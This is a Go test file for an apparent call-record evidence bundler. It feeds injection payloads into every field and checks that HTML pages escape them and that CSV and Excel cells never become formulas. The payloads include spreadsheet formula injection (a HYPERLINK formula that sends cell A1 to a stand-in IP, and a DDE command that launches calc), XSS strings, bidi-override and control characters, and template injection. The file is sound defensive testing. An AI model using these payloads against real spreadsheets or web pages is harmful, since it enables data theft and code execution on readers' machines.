package bundle

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"calltrail/cdr/record"
	"calltrail/store/evidence/bundle/answer"
)

// hostile are texts that a spreadsheet would run, a browser would obey, or a reader would not see as they are.
var hostile = []string{
	`=HYPERLINK("http://192.0.2.1/?"&A1,"x")`, `=cmd|' /C calc'!A1`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1",
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, "</title><h1>x", "abc\u202e321", "a\x1b[31mred", "a\x00b", "a\u2066b",
	"{{.Meta}}", "]]>", "a,b;c\n\"d\"", strings.Repeat("long", 20_000),
}

// All that stands where texts from the wire go, in every table and page.
func hostileAnswer(t *testing.T, k *keys) *answer.Answer {
	t.Helper()
	var list [][]byte
	for i, text := range hostile {
		var c record.Call
		if err := json.Unmarshal(bodies(t)[0], &c); err != nil {
			t.Fatal(err)
		}
		c.CallUID[0], c.CallUID[1] = byte(i), 1
		c.Caller = record.Party{Raw: text, Display: text, User: text}
		c.Callee.User, c.Callee.E164 = text, ""
		c.Asserted.Raw, c.Asserted.E164 = text, ""
		c.Src.ASOrg, c.Src.Location.City, c.SIP.CallID, c.SIP.InstanceID = text, text, text, text
		c.Dst.Location.City = text
		c.Redirects = []record.Redirect{{Raw: text, Reason: text, Source: "diversion"}}
		c.Ingress = &record.Link{Trunk: text, Peer: text}
		c.Indicators = []record.Indicator{{Rule: "missing_number", Detail: text}}
		list = append(list, c.Append(nil))
	}
	m := meta()
	m.Coverage, m.Request.Purpose, m.Provider.Officer = hostile[8], hostile[9], hostile[11]
	a, err := answer.New(m, chainOf(t, k, list))
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestHostileTexts(t *testing.T) {
	k := newKeys(t)
	a := hostileAnswer(t, k)
	data, _, err := Make(a, ipdr(t), k.evidence, "Example Broadband")
	if err != nil {
		t.Fatal(err)
	}
	if r := Verify(data, k.own, program); !r.Good() {
		t.Fatalf("%+v", r.Faults)
	}
	files := mustUnpack(t, data)
	for _, name := range []string{"page.html", "annexe-foreign.html", "certificate-63-4.html"} {
		html := string(content(files, name))
		for _, bad := range []string{"<script", "<img", "onerror=alert(1)>", "<h1>x", "\u202e", "\u2066", "\x1b", "\x00"} {
			if strings.Contains(html, bad) {
				t.Errorf("%s holds %q", name, bad)
			}
		}
	}
	if page := string(content(files, "page.html")); !strings.Contains(page, `abc\u{202E}321`) || !strings.Contains(page, "&lt;script&gt;") {
		t.Error("what was sent is not shown, escaped, on the page")
	}
	for _, name := range []string{"page.html", "annexe-foreign.html", "certificate-63-4.html"} {
		if html := string(content(files, name)); strings.Contains(html, "http://") || strings.Contains(html, "https://") {
			for _, text := range hostile {
				html = strings.ReplaceAll(html, template(text), "")
			}
			if strings.Contains(html, "https://") {
				t.Errorf("%s names an address of the web", name)
			}
		}
	}
	rows, err := csv.NewReader(bytes.NewReader(content(files, "records.csv"))).ReadAll()
	if err != nil || len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows (%v)", len(rows), err)
	}
	for _, row := range rows {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(cell)[0]) && rows[0][i] != "Latitude" && rows[0][i] != "Longitude" {
				t.Errorf("column %s: a spreadsheet runs %.40q", rows[0][i], cell)
			}
			if strings.ContainsAny(cell, "\x00\x1b\u202e\u2066") {
				t.Errorf("column %s: %.40q holds what nobody sees", rows[0][i], cell)
			}
		}
	}
}

func template(s string) string {
	return strings.NewReplacer("&", "&amp;", `"`, "&#34;", "<", "&lt;", ">", "&gt;", "'", "&#39;").Replace(s)
}

// The workbook is read by a program that is not ours: no cell is a formula, the columns of numbers have numbers, all else is text.
func TestSpreadsheetByOpenpyxl(t *testing.T) {
	if err := exec.CommandContext(t.Context(), "/usr/bin/python3", "-c", "import openpyxl").Run(); err != nil {
		if os.Getenv("CALLTRAIL_REQUIRE_SERVICES") != "" {
			t.Fatal("openpyxl is not there: .ci/programs installs it")
		}
		t.Skip("openpyxl is not there")
	}
	k := newKeys(t)
	for name, a := range map[string]*answer.Answer{"hostile": hostileAnswer(t, k), "usual": newAnswer(t, k, bodies(t))} {
		files, _, err := build(a, ipdr(t))
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(t.TempDir(), "records.xlsx")
		if err := os.WriteFile(path, content(files, "records.xlsx"), 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := exec.CommandContext(t.Context(), "/usr/bin/python3", "-c", `
import json, sys, openpyxl
book = openpyxl.load_workbook(sys.argv[1])
print(json.dumps({s.title: [[[c.data_type, c.number_format, c.value] for c in row] for row in s.iter_rows()] for s in book}))`, path).Output()
		if err != nil {
			t.Fatalf("%s: openpyxl: %v", name, err)
		}
		var sheets map[string][][][3]any
		if err := json.Unmarshal(out, &sheets); err != nil {
			t.Fatal(err)
		}
		calls := sheets["Calls"]
		if len(calls) != len(a.Calls())+1 || len(sheets["About this table"]) < len(calls[0]) {
			t.Fatalf("%s: %d rows, %d of the other sheet", name, len(calls), len(sheets["About this table"]))
		}
		numbers := 0
		for n, row := range calls {
			for i, cell := range row {
				header := fmt.Sprint(calls[0][i][2])
				switch {
				case cell[2] == nil:
				case cell[0] == "n":
					numbers++
					if n == 0 || !strings.Contains("Duration (s) Latitude Longitude Accuracy (km) Number on Chain", header) {
						t.Errorf("%s: %s is the number %v", name, header, cell[2])
					}
				case cell[0] != "s" && cell[0] != "inlineStr" || cell[1] != "@":
					t.Errorf("%s: %s has the type %v, format %v", name, header, cell[0], cell[1])
				}
			}
		}
		if numbers == 0 {
			t.Errorf("%s: no numbers", name)
		}
	}
}
